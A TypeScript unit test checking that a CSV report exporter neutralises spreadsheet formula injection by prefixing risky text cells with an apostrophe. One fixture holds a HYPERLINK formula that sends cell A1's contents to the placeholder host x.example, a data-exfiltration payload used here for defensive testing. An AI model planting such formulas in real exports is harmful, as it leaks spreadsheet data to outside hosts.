import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parseCsv } from '../../shared/csv.ts';
import { date, text } from '../../shared/xlsx.ts';
import { moneyCell, tableCsv } from './report-exports.ts';

describe('tableCsv: formula injection', () => {
  it("prefixes text cells that start like a formula with ', and writes amounts and dates as they are", () => {
    const csv = tableCsv({
      name: 'Aging',
      header: ['customer', 'total', 'asOf'],
      rows: [
        [text('=HYPERLINK("http://x.example/?"&A1,"Klick")'), moneyCell('-12.50', 'EUR'), date('2026-03-31')],
        [text('@SUM(1+1)'), moneyCell('-5', 'JPY'), null],
        [text('-Rabatt GmbH'), moneyCell('1200.000', 'KWD'), null],
        [text('Müller Bau GmbH'), moneyCell('0.00', 'EUR'), null],
      ],
    });
    assert.deepEqual(
      parseCsv(csv).rows.map((r) => r.values),
      [
        ['\'=HYPERLINK("http://x.example/?"&A1,"Klick")', '-12.50', '2026-03-31'],
        ["'@SUM(1+1)", '-5', ''],
        ["'-Rabatt GmbH", '1200.000', ''],
        ['Müller Bau GmbH', '0.00', ''],
      ],
    );
  });
});
